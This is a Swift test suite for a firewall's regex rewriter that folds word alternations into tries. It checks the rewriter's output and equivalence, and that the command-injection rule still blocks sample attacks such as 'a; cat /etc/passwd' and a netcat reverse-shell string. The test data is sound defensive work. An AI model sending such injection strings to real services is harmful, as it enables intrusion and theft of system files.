import Testing

@testable import Firewall
import TestSupport

/// Long alternations of words are matched as a trie: the rewrite's shape, what it leaves alone, and that the
/// rewritten pattern matches exactly the subjects the written one does.
@Suite("Alternation factoring")
struct AlternationFactoringTests {
    @Test func wordsShareTheirPrefixes() {
        #expect(AlternationFactoring.factored("(?:nc|ncat|netcat|nmap)") == "(?:n(?:c(?:at)?|etcat|map))")
        #expect(AlternationFactoring.factored("x(?:bash|base64|base32|curl)\\b") == "x(?:bas(?:h|e(?:64|32))|curl)\\b")
        // A quantified or classed alternative is not a word: it is kept as written, after the trie.
        #expect(AlternationFactoring.factored("(?:ls|cat|python[23]?|ps|cp)") == "(?:ls|c(?:at|p)|ps|python[23]?)")
        // Escaped punctuation is part of a word; a word may repeat.
        #expect(AlternationFactoring.factored("(?:a\\.b|a\\.c|chef-client|chef-vault|a\\.b)") == "(?:a\\.(?:b|c)|chef-(?:client|vault))")
        // Groups nested in other groups, lookaheads and option groups are rewritten too.
        #expect(AlternationFactoring.factored("(?i)(a(?=(?:ab|ac|ad|ae)))") == "(?i)(a(?=(?:a(?:b|c|d|e))))")
    }

    @Test func leavesAloneWhatItCannotKeep() {
        #expect(AlternationFactoring.factored("(?:ab|cd|ef)") == nil, "too few words")
        #expect(AlternationFactoring.factored("ab|ac|ad|ae") == nil, "the top level is not a group")
        #expect(AlternationFactoring.factored("(ab|ac|ad|ae)") == nil, "a capturing group")
        #expect(AlternationFactoring.factored("(?<=(?:ab|ac|ad|ae))x") == nil, "lookbehinds need fixed lengths")
        #expect(AlternationFactoring.factored("(?:ab|(?i)ac|ad|ae)") == nil, "later alternatives inherit an option setting")
        #expect(AlternationFactoring.factored("(?:ab|(?i:ac)|ad|ae|af)") == "(?:a(?:b|d|e|f)|(?i:ac))", "a group with options is not a setting")
        for construct in [#"(a)\1"#, "(?>a)", "a++", "(*COMMIT)", "(?(1)a|b)", "(?R)", #"\Qab\E"#, "(?x) a", "(?|a|b)", #"\Ka"#] {
            #expect(AlternationFactoring.factored("(?:ab|ac|ad|ae)" + construct) == nil, "\(construct)")
        }
        #expect(AlternationFactoring.factored("(?:ab|ac|ad|ae)[)|(]") == "(?:a(?:b|c|d|e))[)|(]", "a class's brackets are members")
        #expect(AlternationFactoring.factored("(?:ab|ac|ad|ae){x") == "(?:a(?:b|c|d|e)){x", "a brace that is no quantifier")
    }

    /// Random word lists in random contexts, against random subjects built from the same words: the rewritten
    /// pattern matches exactly when the written one does.
    @Test func matchesWhatTheWrittenPatternMatches() throws {
        var generator = SystemRandomNumberGenerator()
        let letters = Array("abcs-")
        let contexts = [("", ""), (#"\b"#, #"\b"#), ("^", "$"), ("[;|]\\s*", "(?:\\s|$)"), ("(?i)x", "y?"), ("(?=", ")z"), ("(?:(?i)", "|c)")]
        var rewritten = 0
        for _ in 0..<300 {
            var words: [String] = []
            for _ in 0..<Int.random(in: 4...12, using: &generator) {
                words.append(String((0..<Int.random(in: 1...4, using: &generator)).map { _ in letters.randomElement(using: &generator) ?? "a" }))
            }
            var alternatives = words
            if Bool.random(using: &generator) { alternatives.append("b[ac]?") }
            let (before, after) = contexts.randomElement(using: &generator) ?? ("", "")
            let pattern = before + "(?:" + alternatives.joined(separator: "|") + ")" + after
            let written = try CompiledPattern(pattern, options: [], matchLimit: 100_000, depthLimit: 10_000, rewritingAlternations: false)
            let trie = try CompiledPattern(pattern, options: [], matchLimit: 100_000, depthLimit: 10_000, rewritingAlternations: true)
            if AlternationFactoring.factored(pattern) != nil { rewritten += 1 }
            for _ in 0..<40 {
                var subject = ""
                for _ in 0..<Int.random(in: 0...4, using: &generator) {
                    subject += Bool.random(using: &generator) ? (words.randomElement(using: &generator) ?? "") : String(Array("abcs-; xyzAB").randomElement(using: &generator) ?? " ")
                }
                #expect(try written.matches(subject) == trie.matches(subject), "\(pattern) on \(subject)")
            }
        }
        #expect(rewritten > 250, "most random patterns have a group worth rewriting")
    }

    /// The default rule set's command-injection rule, rewritten, still tells attacks from prose. The set is loaded
    /// off the Swift concurrency threads other suites' servers need: it takes seconds in a debug build.
    @Test func theCommandRuleStillMatches() async throws {
        let set = try await offloaded { try RuleSetLoader.load(path: Corpora.repository + "/rules/firewall") }
        for (value, blocked) in [("a; cat /etc/passwd", true), ("x|netcat -e sh 1.2.3.4", true), ("please; ring twice.", false), ("ok; catalogue", false)] {
            let request = FirewallRequest(method: "GET", uri: "/?q=" + value.addingPercentEncodingForQuery(), headers: [("Host", "example.com")])
            #expect(set.evaluate(request).matches.contains { $0.ruleID == 140100 || $0.ruleID == 140130 } == blocked, "\(value)")
        }
    }
}

extension String {
    /// The string with the bytes a query value cannot hold percent-encoded.
    fileprivate func addingPercentEncodingForQuery() -> String {
        var encoded = ""
        for byte in self.utf8 {
            if (byte >= 0x30 && byte <= 0x39) || (byte >= 0x41 && byte <= 0x5A) || (byte >= 0x61 && byte <= 0x7A) || byte == 0x2E || byte == 0x2D {
                encoded.append(Character(Unicode.Scalar(byte)))
            } else {
                encoded += "%" + String(byte, radix: 16, uppercase: true).leftPadded
            }
        }
        return encoded
    }

    fileprivate var leftPadded: String { self.count == 1 ? "0" + self : self }
}
